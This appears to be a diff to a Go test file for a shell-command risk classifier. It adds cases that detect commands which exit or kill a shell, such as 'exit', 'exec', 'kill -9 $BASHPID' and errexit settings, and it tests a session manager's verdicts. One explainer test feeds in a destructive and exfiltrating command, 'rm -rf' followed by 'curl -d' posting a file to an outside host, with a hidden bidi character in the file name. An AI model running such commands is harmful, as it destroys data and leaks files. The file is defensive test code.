@@ -1,6 +1,7 @@
 package risk
 
 import (
+	"reflect"
 	"strings"
 	"testing"
 )
@@ -102,6 +103,43 @@ func TestShellKillers(t *testing.T) {
 		{"true | exit", Zsh, "shell.exit", "line 1"},
 		{"begin; exit; end", Fish, "shell.exit", "line 1"},
 		{"if true\nexit\nend", Fish, "shell.exit", "line 2"},
+		{"true && logout", Zsh, "shell.exit", "line 1"},
+		{"set -o err_exit", Zsh, "shell.errexit", "line 1"},
+		{"shopt -so errexit", Bash, "shell.errexit", "line 1"},
+		{"shopt -s -o errexit", Bash, "shell.errexit", "line 1"},
+		{"set -t", Bash, "shell.onecmd", "line 1"},
+		{"command -p exec sh", Bash, "shell.exec", "line 1"},
+		{"builtin -- exit", Bash, "shell.exit", "line 1"},
+		{"nocorrect exit", Zsh, "shell.exit", "line 1"},
+		{"exec <in", Bash, "shell.exec", "line 1"},
+		{"exec 2>err", Bash, "shell.exec", "line 1"},
+		{"exec &>log", Bash, "shell.exec", "line 1"},
+		{"ls\ntrap 'exit 1' INT", Bash, "shell.exit", "line 2"},
+		{"trap \"set -e\" DEBUG EXIT", Bash, "shell.errexit", "line 1"},
+		{"kill -9 $BASHPID", Bash, "shell.kill", "line 1"},
+		{"kill $fish_pid", Fish, "shell.kill", "line 1"},
+		{"suspend", Bash, "shell.stop", "line 1"},
+		{"while read x; do exit; done <f", Bash, "shell.exit", "line 1"},
+		{"case x in x) exit;; esac", Bash, "shell.exit", "line 1"},
+		{"exit", Fish, "shell.exit", "line 1"},
+		{"exec fish", Fish, "shell.exec", "line 1"},
+		{"if true\necho exited\nexit\nend", Fish, "shell.exit", "line 3"},
+		{"exec", Bash, "", ""},
+		{"exec 3>log 4<in {fd}>&1", Bash, "", ""},
+		{"exec 3>&-", Bash, "", ""},
+		{"command -v exit", Bash, "", ""},
+		{"trap 'exit 1' EXIT", Bash, "", ""},
+		{"trap - INT", Bash, "", ""},
+		{"shopt -s extglob", Bash, "", ""},
+		{"shopt -uo errexit", Bash, "", ""},
+		{"set -o pipefail", Bash, "", ""},
+		{"set -u", Bash, "", ""},
+		{"setopt noerrexit", Zsh, "", ""},
+		{"if true\nbash -lc 'set -e; exit'\nend", Fish, "", ""},
+		{"if true\necho \"a; exit\"\nend", Fish, "", ""},
+		{"bash -lc 'set -e\ntrue; exit'", Zsh, "", ""},
+		{"bash <<'X'\nset -e\nexit\nX", Bash, "", ""},
+		{"env bash -c 'exit 3'", Bash, "", ""},
 		{"bash -lc 'set -e; ls'", Bash, "", ""},
 		{"(set -e; exit)", Bash, "", ""},
 		{"x=$(exit 3)", Bash, "", ""},
@@ -126,6 +164,28 @@ func TestShellKillers(t *testing.T) {
 				t.Errorf("found %v, want %s on %s", found, c.want, c.line)
 			}
 		})
+	}
+}
+
+func TestManage(t *testing.T) {
+	for command, want := range map[string]Verdict{
+		"create-session build":    {Effect: Observe, Level: Low, Auto: true, Plain: true},
+		"create-pane main worker": {Effect: Observe, Level: Low, Auto: true, Plain: true},
+		"kill-session build":      {Effect: Mutate, Level: Medium, Mutation: true},
+		"kill-pane main worker":   {Effect: Mutate, Level: Medium, Mutation: true},
+		"kill-server":             {Effect: Destroy, Level: High, Mutation: true, Flags: Opaque},
+		"create-sessions":         {Effect: Destroy, Level: High, Mutation: true, Flags: Opaque},
+		"":                        {Effect: Destroy, Level: High, Mutation: true, Flags: Opaque},
+	} {
+		got := Manage(command)
+		checkVerdict(t, got, len(command))
+		if len(got.Findings) != 1 || got.Findings[0].Why == "" {
+			t.Errorf("%q: %+v", command, got.Findings)
+		}
+		got.Findings = nil
+		if !reflect.DeepEqual(got, want) {
+			t.Errorf("%q: %+v, want %+v", command, got, want)
+		}
 	}
 }
 
@@ -253,7 +313,7 @@ func TestDataFiles(t *testing.T) {
 func TestExplain(t *testing.T) {
 	text := "rm -rf /srv/x; curl -d @\u202efile http://x"
 	got := Explain(Command(text, Bash), text)
-	for _, want := range []string{"hard to get back", "Removes files recursively.", `"rm -rf"`, `\u202e`} {
+	for _, want := range []string{"hard to get back", "Removes files recursively.", `"rm -rf"`, `⟦U+202E⟧`} {
 		if !strings.Contains(got, want) {
 			t.Errorf("%q is missing in:\n%s", want, got)
 		}
